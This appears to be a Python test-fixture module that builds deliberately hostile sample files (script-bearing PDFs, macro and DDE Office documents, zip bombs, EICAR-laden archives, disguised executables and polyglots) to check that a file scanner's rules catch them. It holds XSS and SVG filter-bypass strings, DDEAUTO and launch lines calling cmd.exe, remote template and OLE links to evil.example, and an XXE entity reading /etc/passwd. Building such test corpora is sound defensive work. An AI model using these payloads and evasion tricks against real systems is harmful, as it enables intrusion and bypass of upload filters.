"""Bad files: what the rules must find, made with the same producers. Nothing here does harm: scripts are `app.alert(1)`,
programs are headers without code, and the virus is the EICAR test file."""

import base64
import gzip
import io
import re
import zipfile
import zlib

from .honest import dicom, encapsulated, tarred
from .table import (DOCX, EICAR, GZIP, HTML, OCTETS, ODT, PDF, PE, PPTX, SVG, TAR, TEXT, XLSX, XML, ZIP, read, rezipped, run, write, zipped)

SCRIPT, LOCKED, BROKEN, BOMB = "active-script", "encrypted", "unreadable", "archive-bomb"
OTHER, PROGRAM, VIRUS, MACRO = "type-mismatch", "executable", "malware", "macro"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0" + bytes(200)
LINK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)


def pdf_scripts(table):
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    def script():
        return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))

    def root(pdf, **more):
        for key, value in more.items():
            pdf.Root[f"/{key}"] = pdf.make_indirect(value)

    def note(pdf, **more):
        pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 99, 99]), **more))])

    def late(pdf):
        root(pdf, OpenAction=Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))

    places = {
        "open action": lambda pdf: root(pdf, OpenAction=script()),
        "script in a stream": late,
        "catalog actions": lambda pdf: root(pdf, AA=Dictionary(WC=script())),
        "page actions": lambda pdf: pdf.pages[0].__setitem__("/AA", Dictionary(O=script())),
        "names tree": lambda pdf: root(pdf, Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
        "link": lambda pdf: note(pdf, Subtype=Name.Link, A=script()),
        "form field": lambda pdf: (note(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), AA=Dictionary(K=script())),
                                   root(pdf, AcroForm=Dictionary(Fields=Array([pdf.pages[0].Annots[0]])))),
        "next action": lambda pdf: root(pdf, OpenAction=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=script())),
        "launch": lambda pdf: note(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "rich media": lambda pdf: note(pdf, Subtype=Name.RichMedia),
        "rendition": lambda pdf: note(pdf, Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(1)"))),
        "form xfa": lambda pdf: root(pdf, AcroForm=Dictionary(Fields=Array([]), XFA=pdf.make_stream(
            b"<xdp:xdp xmlns:xdp='x'><template><script contentType='application/x-javascript'>app.alert(1)</script></template></xdp:xdp>"))),
    }
    streams = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    locks = {"r3": pikepdf.Encryption(owner="o", user="", R=3, aes=False, metadata=False),
             "r4": pikepdf.Encryption(owner="o", user="", R=4), "r6": pikepdf.Encryption(owner="o", user="", R=6)}

    def made(change, **options):
        with pikepdf.open(io.BytesIO(table.content["weasyprint 1.7"])) as pdf:
            change(pdf)
            out = io.BytesIO()
            pdf.save(out, **options)
        return out.getvalue()

    for name, change in places.items():
        table.bad(f"pdf {name}", PDF, made(change, object_stream_mode=pikepdf.ObjectStreamMode.disable), SCRIPT)
        table.bad(f"pdf {name} in an object stream", PDF, made(change, **streams), SCRIPT)
    for name, lock in locks.items():
        table.bad(f"pdf open action owner only {name}", PDF, made(places["open action"], encryption=lock, **streams), SCRIPT)
        table.bad(f"pdf form xfa owner only {name}", PDF, made(places["form xfa"], encryption=lock, **streams), SCRIPT)
        for what, data, finding in (("program", PE, PROGRAM), ("virus", EICAR, VIRUS)):
            attach = made(lambda pdf: pdf.attachments.__setitem__("a.dat", data), encryption=lock, **streams)
            table.bad(f"pdf {what} attached owner only {name}", PDF, attach, finding)
    for name, lock in {"r2": pikepdf.Encryption(owner="o", user="u", R=2, aes=False, metadata=False), "r4": pikepdf.Encryption(owner="o", user="u", R=4),
                       "r6": pikepdf.Encryption(owner="o", user="u", R=6)}.items():
        table.bad(f"pdf user password {name}", PDF, made(lambda pdf: None, encryption=lock), LOCKED)
        table.bad(f"pdf user password {name} streams", PDF, made(lambda pdf: None, encryption=lock, **streams), LOCKED)
    for what, data, finding in (("program", PE, PROGRAM), ("virus", EICAR, VIRUS), ("elf", ELF, PROGRAM), ("docm", macro_document(table), MACRO),
                                ("pdf with script", table.content["pdf link"], SCRIPT)):
        table.bad(f"pdf {what} attached", PDF, made(lambda pdf: pdf.attachments.__setitem__("befund.txt", data)), finding)
        table.bad(f"pdf {what} attached in object streams", PDF, made(lambda pdf: pdf.attachments.__setitem__("b", data), **streams), finding)
    plain = table.content["pdf open action"]
    escaped = plain.replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/#4a#53")
    assert escaped != plain
    table.bad("pdf hex names", PDF, escaped, SCRIPT)
    old = table.content["fpdf2 letter"]
    start = int(re.findall(rb"startxref\s+(\d+)", old)[-1])
    number = int(re.search(rb"/Root (\d+) 0 R", old)[1])
    for name, head in {"": b"%d 0 obj", "0obj": b"%d 0obj", "comment": b"%d 0%%x\nobj"}.items():
        body = head % number + b"\n<</Type/Catalog/Pages 1 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\nendobj\n"
        hidden = b"99 0 obj\n<</Length %d>>\nstream\n" % len(body) + body + b"\nendstream\nendobj\n"
        offset = len(old) + 1 + len(hidden.split(body)[0])
        table_part = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size 200/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            number, offset, number, start, len(old) + 1 + len(hidden))
        table.bad(f"pdf incremental update hidden {name}", PDF, old + b"\n" + hidden + table_part, SCRIPT)
    filters(table)


def filters(table):
    """A program as a stream that does not say what it is, behind filters that every viewer knows."""
    ascii85 = base64.a85encode(zlib.compress(PE)) + b"~>"
    for name, words, data in (("a85", b"[/ASCII85Decode/FlateDecode]", ascii85), ("ahx", b"[/AHx /Fl]", zlib.compress(PE).hex().encode() + b">"),
                              ("hex", b"/ASCIIHexDecode", PE.hex().encode() + b">"), ("twice", b"[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(PE))),
                              ("reference", b"9 0 R", zlib.compress(PE))):
        body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Names<</EmbeddedFiles<</Names[(a)<</F(a)/EF<</F 3 0 R>>>>]>>>>>>\nendobj\n"
        body += b"3 0 obj\n<</Length %d/Filter %s>>\nstream\n" % (len(data), words) + data + b"\nendstream\nendobj\n9 0 obj\n/FlateDecode\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"
        table.bad(f"pdf program behind {name}", PDF, body, PROGRAM, BROKEN)


def macro_document(table):
    def change(name, data):
        return [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900))] if name is None else data
    return rezipped(table.content["python-docx letter"], change)


def office(table, folder):
    letter, book = table.content["python-docx letter"], table.content["openpyxl workbook"]

    def added(package, part, content):
        return rezipped(package, lambda name, data: [(part, content)] if name is None else data)

    def replaced(package, part, old, new):
        def change(name, data):
            if name is None:
                return []
            if name == part:
                assert old in data, part
                return data.replace(old, new)
            return data
        return rezipped(package, change)

    def related(kind, target):
        return b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>' % (kind, target)

    table.bad("docm as docx", DOCX, macro_document(table), MACRO)
    import xlsxwriter
    out = io.BytesIO()
    sheets = xlsxwriter.Workbook(out)
    sheets.add_worksheet()
    sheets.add_vba_project(write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), folder, "vba.bin"))
    sheets.close()
    for kind in (XLSX, "application/vnd.ms-excel.sheet.macroEnabled.12"):
        table.bad(f"xlsm {len(kind)}", kind, out.getvalue(), MACRO)
    table.bad("excel 4 macro sheet", XLSX, added(book, "xl/macrosheets/sheet1.xml", b"<xm:macrosheet xmlns:xm='x'/>"), MACRO)
    table.bad("docx template from elsewhere", DOCX, added(letter, "word/_rels/settings.xml.rels",
              b"<Relationships>" + related(b"attachedTemplate", b"http://evil.example/t.dotm")), MACRO)
    table.bad("docx ole from elsewhere", DOCX, replaced(letter, "word/_rels/document.xml.rels", b"</Relationships>",
              related(b"oleObject", b"mhtml:http://evil.example/x!x-usc:http://evil.example/x")), MACRO, SCRIPT)
    table.bad("docx dde", DOCX, replaced(letter, "word/document.xml", b"</w:body>",
              b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p></w:body>"), SCRIPT)
    table.bad("xlsx dde", XLSX, added(book, "xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService='cmd' ddeTopic='x'/></externalLink>"), SCRIPT)
    table.bad("docx activex", DOCX, added(letter, "word/activeX/activeX1.xml", b"<ax:ocx xmlns:ax='x'/>"), SCRIPT)
    table.bad("docx program inside", DOCX, added(letter, "word/embeddings/a.bin", PE), PROGRAM)
    table.bad("docx virus inside", DOCX, added(letter, "word/media/image9.png", EICAR), VIRUS)
    table.bad("docx truncated", DOCX, letter[:-300], BROKEN)
    table.bad("xlsx as docx", DOCX, book, OTHER)
    written = table.content["odfpy text"]
    table.bad("odt basic", ODT, added(written, "Basic/Standard/Module1.xml", b"<?xml version='1.0'?><script:module xmlns:script='x'>Sub A</script:module>"), MACRO)
    table.bad("odt python", ODT, added(written, "Scripts/python/a.py", b"import os"), MACRO)
    table.bad("odt encrypted", ODT, replaced(written, "META-INF/manifest.xml", b"<manifest:file-entry",
              b"<manifest:encryption-data xmlns:manifest='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'/><manifest:file-entry"), LOCKED)
    table.bad("pptx with slides as zip in docx", PPTX, letter, OTHER)
    table.bad("rtf object", "application/rtf", rb"{\rtf1{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata 0105}}}", SCRIPT)


def archives(table, folder):
    write(b"secret", folder, "a.txt")
    run(folder, "zip", "-P", "x", "e.zip", "a.txt")
    table.bad("info-zip encrypted", ZIP, read(folder, "e.zip"), LOCKED)
    run(folder, "7z", "a", "-tzip", "-px", "-mem=AES256", "e7.zip", "a.txt")
    table.bad("7z zip aes", ZIP, read(folder, "e7.zip"), LOCKED)
    run(folder, "7z", "a", "e.7z", "a.txt")
    table.bad("7z archive", OCTETS, read(folder, "e.7z"), BROKEN)
    table.bad("7z in a zip", ZIP, zipped([("a", read(folder, "e.7z"))]), BROKEN)
    import pyzipper
    out = io.BytesIO()
    with pyzipper.AESZipFile(out, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(b"x")
        archive.writestr("a.txt", "x")
    table.bad("pyzipper aes", ZIP, out.getvalue(), LOCKED)
    zeros = bytes(40 << 20)
    for method in ("zip", "gz"):
        one = zipped([("z", zeros)]) if method == "zip" else gzip.compress(zeros)
        table.bad(f"bomb {method}", ZIP if method == "zip" else GZIP, one, BOMB)
    wide = zipped([(f"{n}.zip", zipped([("z", bytes(8 << 20))])) for n in range(16)])
    table.bad("bomb 42 style", ZIP, zipped([(f"{n}.zip", wide) for n in range(16)]), BOMB)
    deep = zipped([("a.txt", b"x")])
    for _ in range(9):
        deep = zipped([("n.zip", deep)])
    table.bad("bomb deep", ZIP, deep, BOMB)
    table.bad("bomb in a docx", DOCX, rezipped(table.content["python-docx letter"], lambda n, d: [("word/media/a.bin", zeros)] if n is None else d), BOMB)
    table.bad("many entries", ZIP, zipped([(str(n), b"") for n in range(10_500)]), BOMB)
    for name, content, right in (("virus", EICAR, VIRUS), ("program", PE, PROGRAM), ("link", LINK, PROGRAM)):
        inner = zipped([("ok.txt", b"x"), ("a.txt", content)])
        table.bad(f"{name} in a zip", ZIP, inner, right)
        table.bad(f"{name} in a zip in a zip", ZIP, zipped([("b.zip", inner)]), right)
        table.bad(f"{name} in a stored zip", ZIP, zipped([("a", content)], compression=zipfile.ZIP_STORED), right)
        for style in ("ustar", "gnu", "pax", "v7"):
            write(content, folder, "a.dat")
            table.bad(f"{name} in a tar.gz {style}", GZIP, run(folder, "tar", "-czf", "-", f"--format={style}", "a.dat"), right)
    for ending in ("js", "vbs", "ps1", "hta", "bat", "url"):
        table.bad(f"zip of .{ending}", ZIP, zipped([(f"befund.pdf.{ending}", b"x = 1\n")]), PROGRAM)
    for style in (0, 1, 2):
        table.bad(f"tar long name {style}", TAR, tarred([("ordner/" * 20 + "befund.bat", b"del x")], format=style), PROGRAM)
    table.bad("zip of a page with script", ZIP, zipped([("seite.html", b"Guten Tag <img src=x onerror=alert(1)>")]), SCRIPT)
    table.bad("zip of a page in latin letters", ZIP, zipped([("seite.svg", b"\n\n<svg xmlns='x' onload='a()'/>")]), SCRIPT)
    whole = table.content["python zip"]
    table.bad("zip truncated", ZIP, whole[:-30], BROKEN)
    table.bad("zip appended", ZIP, whole + b"more", BROKEN)
    for style in ("tar", "gz"):
        data = table.content["gnu tar pax" if style == "tar" else "gnu tar gz"]
        table.bad(f"{style} truncated", TAR if style == "tar" else GZIP, data[: len(data) // 2], BROKEN)
    import pycdlib
    disk = pycdlib.PyCdlib()
    disk.new(joliet=3)
    disk.add_fp(io.BytesIO(PE), len(PE), "/A.EXE;1", joliet_path="/a.exe")
    out = io.BytesIO()
    disk.write_fp(out)
    disk.close()
    table.bad("disk image", OCTETS, out.getvalue(), BROKEN)
    table.bad("disk image in a zip", ZIP, zipped([("a.dat", out.getvalue())]), BROKEN)


def programs(table):
    kinds = {"pe": PE, "elf": ELF, "mach-o": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(90), "link": LINK, "script": b"#!/bin/sh\necho\n",
             "installer": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "Root Entry".encode("utf-16-le").ljust(64, b"\0") + b"\x16\0\5\1" + bytes(12)
             + bytes.fromhex("84100c0000000000c000000000000046") + bytes(500)}
    for name, data in kinds.items():
        for declared in (PDF, TEXT, "image/png"):
            table.bad(f"{name} as {declared}", declared, data, PROGRAM, OTHER)
    table.bad("dicom with a program before", "application/dicom", dicom(preamble=PE[:128]), PROGRAM)
    table.bad("dicom with a virus", "application/dicom", dicom(lambda data: setattr(data, "PatientComments", EICAR.decode())), VIRUS)
    table.bad("dicom with a script pdf", "application/dicom", dicom(encapsulated(table.content["pdf open action"])), SCRIPT)
    table.bad("virus", TEXT, EICAR, VIRUS)
    table.bad("virus in octets", OCTETS, bytes(99_999) + EICAR, VIRUS)
    table.bad("virus in a cda", XML, b"<?xml version='1.0'?><ClinicalDocument><text representation='B64'>%s</text></ClinicalDocument>"
              % base64.encodebytes(EICAR + bytes(90)), VIRUS)
    table.bad("script pdf in a cda", XML, b"<?xml version='1.0'?><ClinicalDocument><text representation='B64'>%s</text></ClinicalDocument>"
              % base64.encodebytes(table.content["pdf names tree"]), SCRIPT)
    archive, page = table.content["python zip"], b"<html><script>alert(1)</script></html>"
    table.bad("pdf and zip", PDF, table.content["fpdf2 letter"] + archive, OTHER)
    table.bad("jpeg and zip", "image/jpeg", table.content["jpeg rgb"] + archive, OTHER)
    table.bad("png and pdf", "image/png", table.content["png rgb"][:33] + table.content["fpdf2 letter"], OTHER)
    table.bad("html and pdf", PDF, page + table.content["fpdf2 letter"], OTHER)
    table.bad("jpeg as html", HTML, table.content["jpeg rgb"] + page, OTHER, SCRIPT)
    table.bad("gif and script as html", HTML, b"GIF89a/*" + page + b"*/=1;", OTHER, SCRIPT)
    table.bad("html as pdf", PDF, page, OTHER, SCRIPT)
    table.bad("png as jpeg", "image/jpeg", table.content["png rgb"], OTHER)
    table.bad("text as pdf", PDF, b"Befund", OTHER)
    table.bad("html as text", TEXT, b"<!doctype html><p>Befund", OTHER)


def markup(table):
    tags = ["<script>alert(1)</script>", "<SCRIPT/x>alert(1)</SCRIPT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
            "<a href='java\tscript:alert(1)'>x</a>", "<a href=&#x6a;avascript:alert(1)>x</a>", "<iframe srcdoc='x'></iframe>",
            "<iframe src=javascript:alert(1)>", "<form action='javascript:a()'><input type=submit>", "<object data=x></object>", "<embed src=x>",
            "<meta http-equiv=refresh content='0;url=javascript:a()'>", "<math><a xlink:href='javascript:a()'>x</a></math>",
            "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<style><!--</style><script>alert(1)</script>--></style>",
            "<title><!--</title><script>alert(1)</script>--></title>", "<!-- --!><script>alert(1)</script>-->", "<![x' ><script>alert(1)</script>'>",
            "<textarea><a title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<svg><![CDATA[><script>alert(1)</script>]]></svg>" + "<b onclick=a()>"]
    for number, tag in enumerate(tags):
        table.bad(f"html {number}", HTML, f"<!DOCTYPE html><html><body>{tag}</body></html>".encode(), SCRIPT)
    table.bad("html doctype", HTML, b"<!DOCTYPE html '><script>alert(1)</script>'><html></html>", SCRIPT)
    table.bad("html utf-16", HTML, "<html><script>alert(1)</script></html>".encode("utf-16"), SCRIPT)
    shapes = ["<script>a()</script>", "<a href='javascript:a()'/>", "<a xlink:href='&#106;avascript:a()'/>", "<rect onclick='a()'/>", "<animate attributeName='href' values='javascript:a()'/>",
              "<set attributeName='href' to='javascript:a()'/>", "<foreignObject><iframe src='x'/></foreignObject>", "<use href='data:image/svg+xml;base64,AA'/>",
              "<handler type='application/ecmascript'>a()</handler>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>a()</x:script>"]
    for number, shape in enumerate(shapes):
        table.bad(f"svg {number}", SVG, f"<svg xmlns='http://www.w3.org/2000/svg'>{shape}</svg>".encode(), SCRIPT)
    table.bad("svg entity", SVG, b"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg>&a;</svg>", SCRIPT)
    table.bad("xml laughs", XML, b"<!DOCTYPE a [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><a>&b;</a>", SCRIPT)
    table.bad("xml style sheet from elsewhere", XML, b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='//evil.example/x.xsl'?><ClinicalDocument/>", SCRIPT)
    table.bad("cda with xhtml script", XML, b"<?xml version='1.0'?><ClinicalDocument><h:script xmlns:h='http://www.w3.org/1999/xhtml'>a()</h:script></ClinicalDocument>", SCRIPT)


def make(table, folder):
    pdf_scripts(table)
    office(table, folder)
    archives(table, folder)
    programs(table)
    markup(table)
